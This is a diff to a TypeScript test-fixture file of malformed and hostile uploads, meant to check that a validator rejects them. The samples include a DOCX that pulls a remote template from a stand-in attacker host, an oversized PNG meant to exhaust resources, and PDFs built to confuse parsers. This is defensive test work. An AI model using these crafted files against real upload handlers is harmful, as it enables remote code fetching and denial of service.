@@ -6,7 +6,7 @@ import { makeDocx, makeZip } from './make-zip.ts';
 
 interface NastyFile {
   bytes: () => Buffer | Promise<Buffer>;
-  /** `FILE_...` for a rejected file, otherwise the detected type and properties. */
+  /** The error code `FILE_...` if the file must be rejected, otherwise its type and properties. */
   expected: string | { type: string; pages?: number; pixels?: { width: number; height: number } };
 }
 
@@ -37,7 +37,7 @@ async function pngOfSize(width: number, height: number): Promise<Buffer> {
   bytes.writeUInt32BE(height, 20);
   return bytes;
 }
-/** Inserts the chunk that makes a PNG animated. */
+/** Creates a PNG with the chunk that makes it animated. */
 async function movingPng(): Promise<Buffer> {
   const bytes = await picture().png().toBuffer();
   const control = Buffer.alloc(20);
@@ -57,7 +57,7 @@ const relationship = (type: string, target: string) =>
   `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
 const MEANINGS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
 const FETCHED = `Type="${MEANINGS}/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"`;
-/** A DOCX with a custom relationship in its settings. */
+/** Creates a DOCX whose settings contain a relationship with these attributes. */
 const related = (attributes: string) => () =>
   relatedBy(`<Relationships><Relationship Id="r" ${attributes}/></Relationships>`);
 const relatedBy = (content: string | Buffer, name = 'word/_rels/settings.xml.rels') => makeDocx([{ name, content }]);
@@ -79,7 +79,9 @@ function inLines(content: Buffer): Buffer {
   ]);
   return deflateSync(Buffer.from(lines.flat()));
 }
-/** Inserts an uncompressed part that looks like the end of the object. */
+/**
+ * Compresses the content, but inserts an uncompressed part that looks like the end of the object.
+ */
 function withEarlyEnd(content: Buffer): Buffer {
   const plain = Buffer.concat([content.subarray(0, 8), Buffer.from('%endstream endobj\n')]);
   const length = Buffer.alloc(4);
@@ -90,7 +92,7 @@ function withEarlyEnd(content: Buffer): Buffer {
   return Buffer.concat([Buffer.from('\x78\x01\0', 'latin1'), length, plain, deflateRawSync(rest), checksum]);
 }
 
-/** Uploads where a PDF, DOC or DOCX is expected. */
+/** Files for upload fields that expect a PDF, DOC or DOCX. */
 export const NASTY_DOCUMENTS: Readonly<Record<string, NastyFile>> = {
   'nothing at all': { bytes: text(''), expected: 'FILE_EMPTY' },
   'one byte': { bytes: text('%'), expected: 'FILE_TYPE' },
@@ -253,13 +255,13 @@ export const NASTY_DOCUMENTS: Readonly<Record<string, NastyFile>> = {
     bytes: () =>
       makePdf({
         objects: [
-          // as pdfTeX writes them
+          // An object stream as written by pdfTeX.
           stream('\n/Type /ObjStm\n/N 1\n/First 8\n/Filter /FlateDecode\n', deflateSync('20000 0 << /A 1 >>')),
-          // as Acrobat writes them, continuing another list
+          // An object stream as written by Acrobat. It extends another object stream.
           stream('/Extends 10000 0 R/Filter[/FlateDecode]/First 8/N 1/Type/ObjStm', deflateSync('20001 0 (/A)')),
-          // uncompressed, as PDF inspection tools write them
+          // An uncompressed object stream, as written by PDF inspection tools.
           stream('/Type /ObjStm /N 1 /First 8 /DecodeParms null', Buffer.from('20002 0 [ /A ]')),
-          // the content of other objects, such as bookmarks, resources and annotations
+          // Other objects that use the same keywords, such as bookmarks, resources and annotations.
           '<< /Type /Outlines /First 20000 0 R /Last 20000 0 R /Title (\\( a stream\n) % obj <<\n >>',
           stream('/Type /XObject /Resources << /Font << /F 20000 0 R /First 20000 0 R >> >>', Buffer.from('q Q')),
           stream('/N 3 /Alternate /DeviceRGB /Filter [/ASCII85Decode /FlateDecode]', Buffer.from('GhQ~>')),
@@ -517,7 +519,7 @@ export const NASTY_DOCUMENTS: Readonly<Record<string, NastyFile>> = {
   },
 };
 
-/** Uploads where a picture or drawing is expected. */
+/** Files for upload fields that expect a picture or drawing. */
 export const NASTY_PICTURES: Readonly<Record<string, NastyFile>> = {
   'a PNG of 3,600 million pixels': { bytes: () => pngOfSize(60_000, 60_000), expected: 'FILE_TOO_COMPLEX' },
   'a PNG without pixels': { bytes: () => pngOfSize(0, 0), expected: 'FILE_UNREADABLE' },
